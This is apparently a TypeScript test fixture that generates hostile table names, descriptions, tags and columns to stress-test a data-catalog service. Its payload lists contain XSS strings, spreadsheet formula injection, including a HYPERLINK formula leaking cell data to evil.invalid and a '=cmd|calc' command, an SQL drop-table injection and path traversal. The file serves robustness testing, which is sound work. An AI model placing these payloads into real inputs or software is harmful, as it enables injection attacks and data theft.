import { itemAt } from '../random.ts';
import { isEntity } from './records.ts';
import type { StoredTable } from './types.ts';

/** Changes a plain name that is unique in its schema to another unique one. */
export type Rename = (name: string, nth: number) => string;

function capitalized(word: string): string {
  return word.charAt(0).toUpperCase() + word.slice(1).toLowerCase();
}

/** Index in `ODD_NAMES` of the names that differ from another table's only by case. */
export const CASE_TWIN = 1;

/** Unconventional names, as every grown warehouse has some: written by hand, copied, migrated. */
export const ODD_NAMES: readonly Rename[] = [
  (name, nth) => name + ['.v2', '.bak', '.2024'][nth % 3],
  (name) => name.split('_').map(capitalized).join('_'),
  (name) => name.split('_').map(capitalized).join(''),
];

/** Number of tables with an odd name among this many. */
export function oddNameCount(tables: number): number {
  return Math.max(tables < 1000 ? 0 : ODD_NAMES.length, Math.round(tables * 0.003));
}

const LONG = 200;
const PADDING = '_with_every_adjustment_and_correction_since_the_migration_of_the_old_platform';

/** Hostile names: markup, formulas, escapes, quotes, other scripts, invisible characters, great length. */
export const HOSTILE_NAMES: readonly Rename[] = [
  ...ODD_NAMES,
  (name, nth) => (nth % 2 ? `${name}/2024/01` : `exports/${name}`),
  (name) => `${name} "final"`,
  (name) => `${name.replaceAll('_', ' ')} (do not use)`,
  (name, nth) => (nth % 2 ? `${name}_100%` : `%2F${name}`),
  (name, nth) => (nth % 2 ? `🔥_${name}` : `${name}_👩‍🚀`),
  (name, nth) => (nth % 2 ? `الطلبات_${name}` : `הזמנות_${name}`),
  (name) => name + PADDING.repeat(3).slice(0, LONG - name.length),
  (name, nth) => `${['=', '+', '-', '@'][nth % 4]}${name}`,
  (name, nth) => (nth % 2 ? `<b>${name}</b>` : `<img src=x onerror=alert(1)>${name}`),
  (name, nth) => (nth % 2 ? `注文_${name}` : `données_${name}`),
  (name) => `${name}\u200B`,
  (name) => `${name}\u202Etxt.exe`,
  (name) => `\\\\${name}\\`,
  (name) => `${name}?q=1&x=${name}#top;`,
  (name) => `'; drop table ${name}; --`,
  (name) => `\${${name}}{{7*7}}`,
  (name) => `../${name}`,
  (name) => ` ${name}\t`,
  (name) => `_Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘_${name}`,
];

/** Number of tables with a hostile name among this many: each kind once if possible, and one in a hundred. */
export function hostileCount(tables: number): number {
  return Math.max(Math.min(HOSTILE_NAMES.length, Math.floor(tables / 3)), Math.round(tables / 100));
}

/** A hostile name for a schema. @param nth number of the schema */
export function hostileName(name: string, nth: number): string {
  return itemAt(HOSTILE_NAMES, nth)(name, nth);
}

const SENTENCE =
  'Every correction since the migration is written here, one after the other, and nobody has cut it. ';

/** Hostile descriptions and display names: attacks on code that renders, copies or exports them. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<p>Imported from the old wiki: <b>orders</b>.</p>\n<script>alert('not run')</script>\n<p>Ask <a href="javascript:alert(1)">the owners</a>.</p>`,
  '[runbook](javascript:alert(document.cookie)) and [file](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![lineage](https://tracker.invalid/pixel.png?who=reader) <img src=x onerror="alert(1)">',
  '<svg/onload=alert(1)><iframe src="javascript:alert(1)"></iframe><style>*{display:none}</style>',
  '=HYPERLINK("https://evil.invalid/?leak="&A1,"Open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'Approved \u202Eyltnecer\u202C by \u2066nobody\u2069. Zero\u200B-width\u200D and \uFEFF marks.',
  'الطلبات من المتجر (web shop) 12,480 — שלום — orders',
  'Les commandes de la région 注文データ 🧵👩🏽‍🚀🏳️‍🌈 Größe in cm² Z̷̨͓͝a̸͇͊l̵͙̈́g̶̤̈o̷̳̓',
  'null',
  '   \n\t\n   ',
  `Line one\r\nLine two\rLine three\u2028Line four\u0000\u001B[31mred\u001B[0m`,
  '# '.repeat(40) + 'heading\n' + '> '.repeat(200) + 'quoted\n' + '- '.repeat(200) + 'item',
  '*'.repeat(5_000) + '_'.repeat(5_000) + '['.repeat(2_000),
  '```\nunclosed code\n' + '|a'.repeat(300) + '|\n' + '|-'.repeat(300) + '|',
  'unbrokenwordwithoutasingleblank'.repeat(40),
  SENTENCE.repeat(Math.ceil(100_000 / SENTENCE.length)).slice(0, 100_000),
];

/** Types of tables in no version of the service. */
export const HOSTILE_TABLE_TYPES: readonly string[] = ['DataProduct', '<b>View</b>'];

/** Hostile values of `displayName` of users and teams; the names stay those of existing ones. */
const HOSTILE_PEOPLE: readonly string[] = [
  '<script>alert(3)</script>',
  '=cmd|calc',
  'Ann\u202Enimda',
  'محمد بن سلمان 🧕',
  '\u200B',
  'O’Brien, "Bob" \\ & <Sons>',
  'Wolfeschlegelsteinhausenbergerdorff'.repeat(6),
];

/** Names of hostile tags, as in their FQNs. */
export const HOSTILE_TAGS: readonly string[] = [
  '"<i>PII</i>.Sensitive"',
  '=Tier',
  '%2F',
  'تصنيف',
  '🔥'.repeat(30),
  'Tier9\u200B',
];

/** A constraint in no version of the service. */
const HOSTILE_CONSTRAINT = {
  constraintType: 'CHECK_<i>',
  columns: ['missing_column'],
  relationshipType: 'MANY_TO_NOBODY',
};

/** A column of an unknown type, with a hostile name and description. */
const HOSTILE_COLUMN = {
  name: '<img src=x onerror=alert(2)>',
  displayName: '=1+1',
  dataType: 'QUANTUM_STATE',
  dataTypeDisplay: 'quantum<"x">',
  description: HOSTILE_TEXTS[0],
  tags: [],
};

/**
 * Adds a hostile tag, column and constraint to those of the record, and renames its people; mutates `record`.
 * @param drawn random number that selects the values
 */
export function hostileRecord(record: StoredTable, drawn: number): StoredTable {
  const change = (member: string, to: (list: readonly unknown[]) => readonly unknown[]) => {
    const list: unknown = record[member];
    if (Array.isArray(list)) record[member] = to(list);
  };
  const renamed = (people: readonly unknown[]) =>
    people.map((one, n) =>
      isEntity(one) ? { ...one, displayName: itemAt(HOSTILE_PEOPLE, drawn + n) } : one,
    );
  const tag = itemAt(HOSTILE_TAGS, drawn);
  change('owners', renamed);
  change('followers', renamed);
  change('tags', (tags) => [
    ...tags,
    {
      tagFQN: `Hostile.${tag}`,
      name: tag,
      displayName: tag,
      description: itemAt(HOSTILE_TEXTS, drawn),
      source: 'Unknown',
      labelType: 'Guessed',
      state: 'Doubted',
      style: { color: 'url(javascript:alert(4))', iconURL: 'javascript:alert(5)' },
    },
  ]);
  change('columns', (columns) => [
    ...columns,
    { ...HOSTILE_COLUMN, fullyQualifiedName: `${record.fullyQualifiedName}.${HOSTILE_COLUMN.name}` },
  ]);
  change('tableConstraints', (constraints) => [...constraints, HOSTILE_CONSTRAINT]);
  return record;
}
